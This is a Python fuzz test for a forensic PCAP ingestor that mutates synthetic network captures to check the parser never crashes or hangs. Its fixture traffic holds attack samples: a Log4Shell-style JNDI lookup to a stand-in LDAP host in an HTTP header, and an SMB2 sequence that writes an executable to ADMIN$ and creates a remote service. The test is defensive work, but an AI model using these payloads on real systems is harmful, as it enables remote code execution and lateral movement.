"""Mutated captures never crash or hang the PCAP ingestor (thousands of cases)."""
from __future__ import annotations

import io
import time

import dpkt
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from forensics.events import CarvedFile, Event, IngestError
from forensics.ingestors.base import IngestContext
from forensics.ingestors.pcap import PcapIngestor
from forensics.net import synth


def _packets():
    t0 = 1_650_000_000_000_000
    pk = synth.tcp_conversation("10.0.0.5", "93.184.216.34", 40000, 80, t0,
                                b"GET /a HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://e/a}\r\n\r\n",
                                b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n", mss=40)
    pk += synth.tcp_conversation("10.0.0.5", "10.0.0.9", 40001, 443, t0 + 5000,
                                 bytes.fromhex("16030100310100002d0303") + bytes(32) + bytes.fromhex("00000200ff0100"),
                                 b"\x16\x03\x03\x00\x02ok")
    q = dpkt.dns.DNS(id=1, qd=[dpkt.dns.DNS.Q(name="a.example.com", type=16)])
    pk.append((t0 + 9000, synth.udp_frame("10.0.0.5", "10.0.0.53", 5000, 53, bytes(q))))
    pk.append((t0 + 9500, synth.eth(b"\x00\x01\x08\x00\x06\x04\x00\x02" + bytes(20), 0x0806)))
    s = synth.Smb2Script()  # SMB2: logon, admin share, a file written and read back, svcctl service creation
    s.logon("u", "D", "W")
    s.tree("\\\\h\\ADMIN$")
    fid = s.create("x.exe")
    s.write(fid, 0, b"MZ" * 40)
    s.read(fid, 0, b"MZ" * 40)
    s.close(fid)
    s.tree("\\\\h\\IPC$", share_type=2)
    pipe = s.create("svcctl", disposition=1)
    s.write(pipe, 0, synth.svcctl_create_service("s", "C:\\x.exe"))
    pk += synth.tcp_exchange("10.0.0.5", "10.0.0.7", 40002, 445, t0 + 10000, s.turns, mss=200)
    mail = (b"Subject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
            b"Content-Disposition: attachment; filename=a.bin\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            b"TVpBQUFB\r\n--b--\r\n")
    pk += synth.tcp_exchange("10.0.0.5", "10.0.0.8", 40003, 25, t0 + 20000, [
        (False, b"220 mx ESMTP\r\n"), (True, b"EHLO a\r\nAUTH PLAIN AHUAcA==\r\n"), (False, b"250 ok\r\n235 ok\r\n"),
        (True, b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n"), (False, b"250 ok\r\n250 ok\r\n354 go\r\n"),
        (True, mail + b".\r\n"), (False, b"250 queued\r\n")], mss=120)
    return pk


def _captures() -> list[bytes]:
    a, b = io.BytesIO(), io.BytesIO()
    synth.write_pcap(a, _packets())
    synth.write_pcapng(b, _packets(), big_endian=True, tsresol=9)
    return [a.getvalue(), b.getvalue()]


CAPTURES = _captures()


def _check(tmp_path, data: bytes) -> None:
    p = tmp_path / "fuzz.cap"
    p.write_bytes(data)
    ctx = IngestContext(path=p, evidence_sha256="f" * 64, evidence_type="pcap", display_name="fuzz.cap")
    t = time.monotonic()
    recs = list(PcapIngestor().ingest(ctx))
    assert time.monotonic() - t < 5, "no hang"
    for r in recs:
        assert isinstance(r, (Event, IngestError, CarvedFile))
        if isinstance(r, IngestError):
            assert r.file == "fuzz.cap" and r.reason and "internal error" not in r.reason
        if isinstance(r, Event):
            r.to_row()  # serialisable


mutation = st.tuples(st.integers(min_value=0, max_value=1 << 20), st.integers(min_value=0, max_value=255))


@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(which=st.integers(0, 1), flips=st.lists(mutation, max_size=8), cut=st.integers(0, 1 << 20))
def test_byte_flips_and_truncation(tmp_path, which, flips, cut):
    data = bytearray(CAPTURES[which])
    for pos, val in flips:
        data[pos % len(data)] = val
    _check(tmp_path, bytes(data[: max(cut % (len(data) + 1), 0)] if cut % 3 == 0 else data))


@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(which=st.integers(0, 1), at=st.integers(0, 1 << 20), blob=st.binary(max_size=64),
       drop=st.integers(0, 64))
def test_insertions_and_deletions(tmp_path, which, at, blob, drop):
    data = CAPTURES[which]
    i = at % (len(data) + 1)
    _check(tmp_path, data[:i] + blob + data[i + drop:])
